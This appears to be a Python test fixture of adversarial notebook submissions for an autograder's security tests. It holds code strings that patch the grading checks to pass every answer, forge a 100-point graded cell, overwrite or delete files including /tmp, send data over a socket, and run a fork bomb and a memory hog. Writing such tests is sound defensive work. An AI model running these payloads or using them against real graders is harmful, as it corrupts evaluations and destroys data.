"""Adversarial submissions for the grading tests: each tries to gain marks or harm the batch.

Every attack answers task 00.1 wrongly (51; the right answer is 54) and task 00.5 rightly ("b") and leaves the
others blank, so whatever it tries, it should earn exactly 1 point: 00.5 correct, 00.1 incorrect, 00.2-00.4
unanswered, 00.6 marked by hand. ``{out}`` and ``{port}`` in the code are filled in by the test (the gradebook
folder, a port the test listens on), ``{root}`` with the repository root and ``{home}`` with the grader's home
folder: the attacker is assumed to know them.
"""

WRONG, RIGHT = "answer_1 = 51", 'answer_5 = "b"'

REDEFINE_CHECK = """\
from alliancelab.checks import Result
def check(task_id, answer):
    return Result(task_id, True, "Well done.")
"""

PATCH_JUDGES = """\
import sys
from alliancelab.checks import Result, registry
tasks = sys.modules["alliancelab.checks.tasks"]
tasks.Task.judge = lambda self, answer: Result(self.task_id, True, "Well done.")
tasks.NumberTask.is_right = lambda self, answer: True
registry.check = lambda task_id, answer: Result(task_id, True, "Well done.")
import alliancelab.checks
alliancelab.checks.check = registry.check
"""

PATCHED_BUILTINS = """\
import builtins
builtins.abs = lambda *args, **kwargs: 0  # every number is now "within tolerance" of the right one
"""

VANDAL = """\
import glob, os, shutil
for pattern in ["**/*.csv", "../**/*.csv", "{out}/*.csv", "{root}/data/*.csv"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            open(path, "w").write("hacked\\n")
        except OSError:
            pass
for folder in glob.glob("{out}/*_feedback") + glob.glob("../*_feedback"):
    shutil.rmtree(folder, ignore_errors=True)
"""

WRITE_OUTSIDE = """\
import os
written = []
for path in ["{root}/alliancelab/checks/set00.py", "{root}/solutions/00_start_here.ipynb", "{out}/gradebook.csv",
             "{root}/pwned.txt", "{home}/pwned.txt", "/etc/pwned", "/var/tmp/pwned"]:
    try:
        with open(path, "a") as handle:
            handle.write("pwned\\n")
        written.append(path)
    except OSError:
        pass
"""

NETWORK = """\
import socket
for address in [("127.0.0.1", {port}), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=2).sendall(b"stolen answers")
    except OSError:
        pass
"""

DELETE_SCRATCH = """\
import os, shutil
shutil.rmtree(os.getcwd(), ignore_errors=True)
shutil.rmtree("/tmp", ignore_errors=True)
"""

MEMORY_HOG = """\
hog = "x" * (64 * 1024**3)
"""

FORK_BOMB = """\
import os
while True:
    os.fork()
"""

OUTPUT_FLOOD = """\
import time
end = time.time() + 2
while time.time() < end:
    print("x" * 10000)
"""

FAKE_TASK = {
    "cell_type": "code",
    "execution_count": 1,
    "id": "fake0001",
    "source": '"✓ Correct"',
    "metadata": {
        "nbgrader": {
            "grade": True,
            "grade_id": "task9_check",
            "locked": True,
            "points": 100,
            "schema_version": 3,
            "solution": False,
            "task": False,
        }
    },
    "outputs": [
        {"output_type": "stream", "name": "stdout", "text": "✓ Correct\n"},
        {
            "output_type": "execute_result",
            "execution_count": 1,
            "metadata": {},
            "data": {"text/plain": "Task 00.9: ✓ Correct. Well done."},
        },
    ],
}

#: name -> (code in task 1's answer cell before its answer, or in a cell added at the end)
IN_ANSWER = {
    "redefine_check": REDEFINE_CHECK,
    "patch_judges": PATCH_JUDGES,
    "patched_builtins": PATCHED_BUILTINS,
    "vandal": VANDAL,
    "write_outside": WRITE_OUTSIDE,
    "network": NETWORK,
    "delete_scratch": DELETE_SCRATCH,
}
AT_END = {"memory_hog": MEMORY_HOG, "fork_bomb": FORK_BOMB, "output_flood": OUTPUT_FLOOD}
